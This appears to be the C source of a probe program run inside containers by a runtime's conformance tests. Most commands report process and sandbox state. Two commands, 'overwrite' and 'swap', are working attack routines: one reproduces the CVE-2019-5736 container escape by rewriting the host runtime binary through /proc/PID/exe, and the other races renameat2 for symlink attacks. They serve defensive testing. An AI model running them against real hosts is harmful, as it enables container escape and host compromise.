/*
 * The workload of the conformance tests: a static program that tells what it sees of itself and of its box, for what
 * busybox has no applet. Each command prints one line a fact and exits 0, or 1 with the error.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/ioprio.h>
#include <linux/keyctl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* sched_getattr(2); the kernel's header redefines what glibc's has. */
struct sched_attributes {
	uint32_t size, policy;
	uint64_t flags;
	int32_t nice;
	uint32_t priority;
	uint64_t runtime, deadline, period;
};

static int fail(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	return 1;
}

static volatile sig_atomic_t last_signal;

static void note_signal(int sig)
{
	last_signal = sig;
}

/* wait [READY]: says READY, waits for SIGTERM, SIGINT, SIGHUP, SIGUSR1 or SIGUSR2 and exits 0 after telling which. As the first process of
 * a pid namespace it needs handlers to get them at all. Reaps children meanwhile. */
static int cmd_wait(char **argv)
{
	struct sigaction sa = { .sa_handler = note_signal };
	sigset_t none;

	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	sigaction(SIGHUP, &sa, NULL);
	sigaction(SIGUSR1, &sa, NULL);
	sigaction(SIGUSR2, &sa, NULL);
	sigaction(SIGCHLD, &(struct sigaction){ .sa_handler = SIG_IGN }, NULL);
	sigemptyset(&none);
	if (argv[0]) {
		printf("%s\n", argv[0]);
		fflush(stdout);
	}
	while (!last_signal)
		poll(NULL, 0, 50);
	printf("signal %d\n", (int)last_signal);
	return 0;
}

/* syscall NUMBER [ARG...]: the raw result, or "errno NAME". */
static int cmd_syscall(char **argv)
{
	long a[6] = { 0 };
	long nr = strtol(argv[0], NULL, 0);
	long r;

	for (int i = 0; i < 6 && argv[1 + i]; i++)
		a[i] = strtol(argv[1 + i], NULL, 0);
	errno = 0;
	r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	if (r < 0)
		printf("errno %s\n", strerrorname_np(errno));
	else
		printf("%ld\n", r);
	return 0;
}

static int cmd_scheduler(char **argv)
{
	struct sched_attributes attr = { .size = sizeof(attr) };

	(void)argv;
	if (syscall(SYS_sched_getattr, 0, &attr, sizeof(attr), 0) < 0)
		return fail("sched_getattr");
	printf("policy %u nice %d priority %u flags %llu runtime %llu deadline %llu period %llu\n", attr.policy,
	       attr.nice, attr.priority, (unsigned long long)attr.flags,
	       (unsigned long long)attr.runtime, (unsigned long long)attr.deadline,
	       (unsigned long long)attr.period);
	return 0;
}

static int cmd_ioprio(char **argv)
{
	long r = syscall(SYS_ioprio_get, IOPRIO_WHO_PROCESS, 0);

	(void)argv;
	if (r < 0)
		return fail("ioprio_get");
	printf("class %ld priority %ld\n", IOPRIO_PRIO_CLASS(r), IOPRIO_PRIO_DATA(r));
	return 0;
}

static int cmd_personality(char **argv)
{
	(void)argv;
	printf("0x%x\n", personality(0xffffffff));
	return 0;
}

static int cmd_mempolicy(char **argv)
{
	unsigned long nodes[16] = { 0 };
	int mode = -1;

	(void)argv;
	if (syscall(SYS_get_mempolicy, &mode, nodes, 8 * sizeof(nodes), NULL, 0) < 0)
		return fail("get_mempolicy");
	printf("mode 0x%x nodes 0x%lx\n", mode, nodes[0]);
	return 0;
}

static int cmd_affinity(char **argv)
{
	cpu_set_t set;

	(void)argv;
	if (sched_getaffinity(0, sizeof(set), &set) < 0)
		return fail("sched_getaffinity");
	for (int i = 0; i < CPU_SETSIZE; i++)
		if (CPU_ISSET(i, &set))
			printf("%d\n", i);
	return 0;
}

/* rlimits: "NUMBER SOFT HARD" for each. */
static int cmd_rlimits(char **argv)
{
	(void)argv;
	for (int i = 0; i < RLIM_NLIMITS; i++) {
		struct rlimit64 r;

		if (getrlimit64(i, &r) == 0)
			printf("%d %llu %llu\n", i, (unsigned long long)r.rlim_cur, (unsigned long long)r.rlim_max);
	}
	return 0;
}

static int cmd_keyring(char **argv)
{
	char text[256] = "";
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	(void)argv;
	if (id < 0)
		return fail("keyctl");
	if (syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING, text, sizeof(text)) < 0)
		return fail("keyctl describe");
	printf("%s\n", text);
	return 0;
}

/* ids: user, groups, session, process group, umask, securebits, no_new_privs, dumpable, parent's death signal. */
static int cmd_ids(char **argv)
{
	gid_t groups[64];
	mode_t mask = umask(0);
	int n = getgroups(64, groups), death = 0;
	uid_t r, e, s;

	(void)argv;
	umask(mask);
	prctl(PR_GET_PDEATHSIG, &death);
	getresuid(&r, &e, &s);
	printf("uid %d %d %d\n", r, e, s);
	getresgid(&r, &e, &s);
	printf("gid %d %d %d\n", r, e, s);
	printf("groups");
	for (int i = 0; i < n; i++)
		printf(" %d", groups[i]);
	printf("\npid %d ppid %d sid %d pgid %d\n", getpid(), getppid(), getsid(0), getpgid(0));
	printf("umask %03o\nsecurebits %d\nno_new_privs %d\ndumpable %d\npdeathsig %d\n", mask, prctl(PR_GET_SECUREBITS),
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), prctl(PR_GET_DUMPABLE), death);
	return 0;
}

/* signals: blocked and ignored masks, which must be clean. */
static int cmd_signals(char **argv)
{
	sigset_t blocked;

	(void)argv;
	sigprocmask(SIG_BLOCK, NULL, &blocked);
	for (int i = 1; i < 65; i++) {
		struct sigaction sa;

		if (sigismember(&blocked, i) == 1)
			printf("blocked %d\n", i);
		if (sigaction(i, NULL, &sa) == 0 && sa.sa_handler == SIG_IGN)
			printf("ignored %d\n", i);
	}
	return 0;
}

/* fds: every open descriptor and where it leads. */
static int cmd_fds(char **argv)
{
	(void)argv;
	for (int fd = 0; fd < 4096; fd++) {
		char path[64], target[4096];
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, target, sizeof(target) - 1);
		if (n >= 0)
			printf("%d %.*s\n", fd, (int)n, target);
		else if (fcntl(fd, F_GETFD) >= 0)
			printf("%d ?\n", fd);
	}
	return 0;
}

/* stat PATH...: type, mode, owner, device number, size. */
static int cmd_stat(char **argv)
{
	for (; *argv; argv++) {
		struct stat st;

		if (lstat(*argv, &st) < 0) {
			printf("%s errno %s\n", *argv, strerrorname_np(errno));
			continue;
		}
		printf("%s %s %04o %d %d %u:%u %lld\n", *argv,
		       S_ISREG(st.st_mode)    ? "file" :
		       S_ISDIR(st.st_mode)    ? "dir" :
		       S_ISCHR(st.st_mode)    ? "char" :
		       S_ISBLK(st.st_mode)    ? "block" :
		       S_ISFIFO(st.st_mode)   ? "fifo" :
		       S_ISLNK(st.st_mode)    ? "link" :
						"socket",
		       st.st_mode & 07777, st.st_uid, st.st_gid, major(st.st_rdev), minor(st.st_rdev),
		       (long long)st.st_size);
	}
	return 0;
}

/* open FLAGS PATH: r, w, or rw; "ok" or the error. */
static int cmd_open(char **argv)
{
	int flags = !strcmp(argv[0], "r") ? O_RDONLY : !strcmp(argv[0], "w") ? O_WRONLY : O_RDWR;
	int fd = open(argv[1], flags | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);

	printf("%s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	return 0;
}

/* mknod c|b MAJOR MINOR PATH MODE: makes and opens it. */
static int cmd_mknod(char **argv)
{
	mode_t type = argv[0][0] == 'c' ? S_IFCHR : S_IFBLK;
	int fd;

	if (mknod(argv[3], type | 0600, makedev(atoi(argv[1]), atoi(argv[2]))) < 0) {
		printf("mknod %s\n", strerrorname_np(errno));
		return 0;
	}
	fd = open(argv[3], O_RDWR | O_NONBLOCK);
	printf("open %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	return 0;
}

static int cmd_winsize(char **argv)
{
	struct winsize w;

	(void)argv;
	if (ioctl(0, TIOCGWINSZ, &w) < 0)
		return fail("TIOCGWINSZ");
	printf("rows %d columns %d\n", w.ws_row, w.ws_col);
	return 0;
}

/* tty: which of 0, 1, 2 are terminals, the controlling one, and whether it is this session's. */
static int cmd_tty(char **argv)
{
	int fd = open("/dev/tty", O_RDWR);
	struct stat st, console;

	(void)argv;
	printf("tty %d %d %d\ncontrolling %s\nsession %s\n", isatty(0), isatty(1), isatty(2), fd < 0 ? strerrorname_np(errno) : "ok",
	       tcgetsid(0) == getsid(0) ? "own" : "other");
	if (fstat(0, &st) == 0 && stat("/dev/console", &console) == 0)
		printf("console %s\n", st.st_rdev == console.st_rdev ? "same" : "other");
	printf("name %s\n", ttyname(0) ? ttyname(0) : "none");
	return 0;
}

/* clocks: seconds since boot by both clocks that a time namespace shifts. */
static int cmd_clocks(char **argv)
{
	struct timespec m, b;

	(void)argv;
	clock_gettime(CLOCK_MONOTONIC, &m);
	clock_gettime(CLOCK_BOOTTIME, &b);
	printf("monotonic %lld\nboottime %lld\n", (long long)m.tv_sec, (long long)b.tv_sec);
	return 0;
}

/* setuid UID: changes to UID, then "uid euid capabilities" of a program with the set-user-ID bit would be seen by exec. */
static int cmd_exec(char **argv)
{
	execv(argv[0], argv);
	printf("%s\n", strerrorname_np(errno));
	return 0;
}

/* tree N: N children which wait for ever, "ready" when all run. */
static int cmd_tree(char **argv)
{
	char ready[] = "ready";
	int n = atoi(argv[0]);

	for (int i = 0; i < n; i++) {
		pid_t pid = fork();

		if (pid < 0)
			return fail("fork");
		if (pid == 0)
			for (;;)
				pause();
	}
	return cmd_wait((char *[]){ ready, NULL });
}

/* eat MIB: touches so much memory, "done" when it got it. */
static int cmd_eat(char **argv)
{
	size_t size = (size_t)atoi(argv[0]) << 20;
	volatile char *p = malloc(size);

	if (!p)
		return fail("malloc");
	for (size_t i = 0; i < size; i += 4096)
		p[i] = 1;
	printf("done\n");
	return 0;
}

/* spawn N: how many of N children could be forked. */
static int cmd_spawn(char **argv)
{
	int n = atoi(argv[0]), got = 0;

	for (; got < n; got++) {
		pid_t pid = fork();

		if (pid < 0)
			break;
		if (pid == 0) {
			pause();
			_exit(0);
		}
	}
	printf("%d\n", got);
	signal(SIGTERM, SIG_IGN);
	kill(0, SIGTERM);
	return 0;
}

/* attr: the security label of this process (AppArmor or SELinux). */
static int cmd_label(char **argv)
{
	char text[4096];
	int fd = open("/proc/thread-self/attr/current", O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	(void)argv;
	if (n < 0)
		return fail("attr/current");
	while (n > 0 && (text[n - 1] == '\n' || !text[n - 1]))
		n--;
	printf("%.*s\n", (int)n, text);
	return 0;
}

/* overwrite SECONDS NAME: the attack of CVE-2019-5736. Opens /proc/PID/exe of what enters the box and whose program's name
 * holds NAME for reading, tries to open it for writing through the descriptor once it no longer runs, and says how often
 * it found and wrote it. */
static int cmd_overwrite(char **argv)
{
	int found = 0, written = 0;
	struct timespec end, now;

	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += atoi(argv[0]);
	printf("ready\n");
	fflush(stdout);
	signal(SIGTERM, note_signal);
	do {
		for (int pid = 2; pid < 400 && !last_signal; pid++) {
			char path[64], name[64], target[4096] = "";
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
			if (readlink(name, target, sizeof(target) - 1) > 0 && strstr(target, argv[1])) {
				found++;
				for (int i = 0; i < 100000; i++) {
					int w = open(name, O_WRONLY | O_CLOEXEC);

					if (w >= 0) {
						written += write(w, "#!/bin/owned\n", 13) == 13;
						close(w);
						break;
					}
					if (errno != ETXTBSY)
						break;
				}
				printf("seen %s\n", target);
				fflush(stdout);
			}
			close(fd);
		}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (!last_signal && now.tv_sec < end.tv_sec);
	printf("found %d written %d\n", found, written);
	return 0;
}

/* swap A B: exchanges the names A and B for ever (renameat2), the racing half of symlink attacks. */
static int cmd_swap(char **argv)
{
	printf("ready\n");
	fflush(stdout);
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* RENAME_EXCHANGE */);
	return 0;
}

static const struct {
	const char *name;
	int args;
	int (*run)(char **argv);
} commands[] = {
	{ "wait", 0, cmd_wait },
	{ "syscall", 1, cmd_syscall },
	{ "scheduler", 0, cmd_scheduler },
	{ "ioprio", 0, cmd_ioprio },
	{ "personality", 0, cmd_personality },
	{ "mempolicy", 0, cmd_mempolicy },
	{ "affinity", 0, cmd_affinity },
	{ "rlimits", 0, cmd_rlimits },
	{ "keyring", 0, cmd_keyring },
	{ "ids", 0, cmd_ids },
	{ "signals", 0, cmd_signals },
	{ "fds", 0, cmd_fds },
	{ "stat", 1, cmd_stat },
	{ "open", 2, cmd_open },
	{ "mknod", 4, cmd_mknod },
	{ "winsize", 0, cmd_winsize },
	{ "tty", 0, cmd_tty },
	{ "clocks", 0, cmd_clocks },
	{ "exec", 1, cmd_exec },
	{ "tree", 1, cmd_tree },
	{ "eat", 1, cmd_eat },
	{ "spawn", 1, cmd_spawn },
	{ "label", 0, cmd_label },
	{ "overwrite", 2, cmd_overwrite },
	{ "swap", 2, cmd_swap },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
		if (!strcmp(argv[1], commands[i].name) && argc - 2 >= commands[i].args)
			return commands[i].run(argv + 2);
	printf("probe: unknown command, or too few arguments\n");
	return 2;
}
